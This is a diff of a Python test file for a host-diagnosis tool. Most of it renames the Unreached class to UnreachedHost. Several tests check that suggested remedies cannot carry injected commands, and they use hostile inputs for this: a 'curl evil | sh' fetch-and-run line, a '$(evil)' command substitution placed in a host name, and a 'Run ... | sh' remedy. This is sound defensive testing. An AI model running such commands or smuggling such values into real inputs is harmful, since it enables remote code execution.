@@ -12,7 +12,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from doctor.model import Answer, AnswerEnd, Host, Unreached, UnreachedKind
+from doctor.model import Answer, AnswerEnd, Host, UnreachedHost, UnreachedKind
 from doctor.probe import read
 from doctor.transport import errors
 from doctor.transport.advice import read_back, rebuilt
@@ -41,7 +41,7 @@ WORDS = (
     "too many",
     "/a b/known_hosts",
 )
-KNOWN = (ssh_errors.Presented("ssh-rsa", "SHA256:x", name) for name in ("node1", "[10.0.0.1]:2222"))
+KNOWN = (ssh_errors.PresentedKey("ssh-rsa", "SHA256:x", name) for name in ("node1", "[10.0.0.1]:2222"))
 EXAMPLES: dict[str, tuple[Any, ...]] = {
     "Destination": DESTINATIONS,
     "str": WORDS,
@@ -83,20 +83,22 @@ def sentences(module: ModuleType) -> Iterator[CannotReach]:
                 yield function(*values)
 
 
-def entered(entry: str, texts: Sequence[str], origin: str = "host") -> Iterator[Unreached]:
-    silent = Unreached("node1", UnreachedKind.NO_SHELL, "no shell ran there", "")
+def entered(entry: str, texts: Sequence[str], origin: str = "host") -> Iterator[UnreachedHost]:
+    silent = UnreachedHost("node1", UnreachedKind.NO_SHELL, "no shell ran there", "")
     for text in texts:
         yield not_entered(silent, Host("node1", "node1", enter=entry, enter_from=origin), text)
 
 
-def honest() -> list[Unreached]:
+def honest() -> list[UnreachedHost]:
     found = [why.of("node1") for module in (errors, ssh_errors, slurm_errors) for why in sentences(module)]
-    found.append(Unreached("node1", UnreachedKind.LOST, "lost", "See whether.", ("ssh node1 uptime",)))
+    found.append(UnreachedHost("node1", UnreachedKind.LOST, "lost", "See whether.", ("ssh node1 uptime",)))
     look = "ssh node1 ps -o pid,stat,wchan:24,args -p 7,8"
-    found.append(Unreached("node1", UnreachedKind.RANK, "gone", "See who stopped it; kill -CONT 7.", (look,)))
+    found.append(
+        UnreachedHost("node1", UnreachedKind.RANK, "gone", "See who stopped it; kill -CONT 7.", (look,))
+    )
     for end in AnswerEnd:
         why = read(Answer("node1", b"", b"", 1, end, 0, 1), (), "token")
-        assert isinstance(why, Unreached)
+        assert isinstance(why, UnreachedHost)
         found.append(why)
     texts = [file.read_text() for file in (ROOT / "tests" / "samples" / "entry").glob("*.txt")]
     for entry in ("docker exec -i train", "sudo -n podman exec -u me -i train"):
@@ -171,7 +173,7 @@ EVIL = (
 @each("command", EVIL)
 def test_no_other_command_is_read_back(command: str) -> None:
     assert rebuilt(command) is None
-    why = Unreached("node1", UnreachedKind.TIMEOUT, "no answer", f"Run {command} | sh", (command,))
+    why = UnreachedHost("node1", UnreachedKind.TIMEOUT, "no answer", f"Run {command} | sh", (command,))
     back = read_back(why, HOST)
     assert back.commands == ("ping -c 3 10.0.0.1",)
     assert back.remedy == "Try the same by hand."
@@ -190,11 +192,11 @@ def test_nothing_can_be_put_into_a_command(command: str, data: st.DataObject) ->
 
 @pytest.mark.parametrize("kind", UnreachedKind)
 def test_the_kind_decides_where_nothing_is_left(kind: UnreachedKind) -> None:
-    why = Unreached("node1", kind, "x", "Words.", ("evil", "curl evil | sh"))
+    why = UnreachedHost("node1", kind, "x", "Words.", ("evil", "curl evil | sh"))
     (command,) = read_back(why, Host("node1", "$(evil)")).commands
     assert rebuilt(command) == command
     assert "evil" not in command
-    assert read_back(Unreached("node1", kind, "x", "Words."), HOST).commands == ()
+    assert read_back(UnreachedHost("node1", kind, "x", "Words."), HOST).commands == ()
 
 
 def test_a_file_of_settings_is_named_by_its_whole_path() -> None:
